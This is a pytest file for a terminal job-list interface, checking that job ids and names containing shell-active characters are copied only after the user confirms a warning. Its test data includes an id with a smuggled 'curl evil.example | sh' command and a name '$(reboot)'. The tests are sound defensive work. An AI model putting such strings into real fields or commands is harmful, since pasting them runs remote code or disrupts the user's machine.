"""Copying ids and names: odd ones only after a question, and the toast claims what is known."""

from __future__ import annotations

import json
from collections.abc import Callable
from contextlib import AbstractAsyncContextManager

import pytest
from tests.interface.jobs.job_list import JOBS, JobList, job_list
from tests.interface.seen import facts, say_yes, toast, words

from faults.proxy import Fault, FaultProxy
from fttui.interface.screens.copied_text import CopiedText
from fttui.services.session import Session
from fttui.storage.folders import state_folder

ODD = "ftjob-1; curl evil.example | sh"
OpenJobs = Callable[..., AbstractAsyncContextManager[JobList]]


@pytest.fixture
def open_jobs(
    open_session: Callable[..., Session],
    fault_proxy: FaultProxy,
    monkeypatch: pytest.MonkeyPatch,
) -> OpenJobs:
    """Opens the list on jobs that an endpoint tells so; what is copied goes to the file."""
    monkeypatch.setenv("FTTUI_CLIPBOARD", "file")

    def open_one(*jobs: dict[str, object]) -> AbstractAsyncContextManager[JobList]:
        answer = json.dumps({"object": "list", "data": jobs, "has_more": False}).encode()
        fault_proxy.always(f"GET {JOBS}$", Fault("answer", body=answer))
        return job_list(open_session, fault_proxy, len(jobs))

    return open_one


def copied() -> str:
    path = state_folder() / "clipboard.txt"
    return path.read_text() if path.exists() else ""


async def test_an_odd_id_is_shown_and_copied_only_after_a_yes(open_jobs: OpenJobs):
    async with open_jobs({"id": ODD, "status": "running"}) as it:
        for answer in ("enter", "escape"):
            said = await it.question("y")
            assert facts(it.app) == {"Text": ODD}
            assert "Copy job id" in said
            assert "characters that a shell may act on when it is pasted" in said
            await it.press(answer)
            assert not it.is_asked
            assert copied() == ""
        await it.question("y")
        await say_yes(it.pilot)
        await it.until(lambda: copied() == ODD)


async def test_an_odd_name_among_good_ones_is_asked_for_too(open_jobs: OpenJobs):
    jobs = [
        {"id": f"ftjob-{number}", "status": "succeeded", "fine_tuned_model": name}
        for number, name in enumerate(("ft:m:org::1", "$(reboot)"))
    ]
    async with open_jobs(*jobs) as it:
        await it.press("space", "space")
        said = await it.question("Y")
        assert "'$(reboot)' is not a usual id" in said
        await it.press("escape")
        assert copied() == ""
        await it.press("y")
        await it.until_told("2 job ids")
        assert sorted(copied().split()) == ["ftjob-0", "ftjob-1"]
        assert not it.is_asked


async def test_a_usual_id_is_copied_at_once_and_shown_again_by_v(open_jobs: OpenJobs):
    async with open_jobs({"id": "ftjob-1", "status": "running"}) as it:
        await it.press("v")
        assert "Nothing was copied yet. Press y on a job to copy its id." in toast(it.app)
        assert not it.is_asked
        await it.press("Y")
        assert "This job has no name yet" in toast(it.app)
        assert copied() == ""
        await it.press("y")
        await it.until_told("Job id ftjob-1: ")
        assert copied() == "ftjob-1"
        await it.press("v")
        assert isinstance(it.app.screen, CopiedText)
        assert "ftjob-1" in words(it.app)


async def test_esc_takes_the_toast_away(open_jobs: OpenJobs):
    async with open_jobs({"id": "ftjob-abc", "status": "running"}) as it:
        await it.press("y")
        await it.until(lambda: "ftjob-abc" in toast(it.app))
        await it.press("escape")
        assert not it.app._notifications


async def test_a_copy_that_fails_is_a_warning_and_the_text_is_kept_to_show(
    open_jobs: OpenJobs, monkeypatch: pytest.MonkeyPatch
):
    async with open_jobs({"id": "ftjob-1", "status": "running"}) as it:
        (state_folder() / "clipboard.txt").mkdir(parents=True)
        await it.press("y")
        await it.until(lambda: toast(it.app))
        (told,) = it.app._notifications._notifications.values()
        assert told.severity == "warning"
        await it.press("v")
        assert isinstance(it.app.screen, CopiedText)
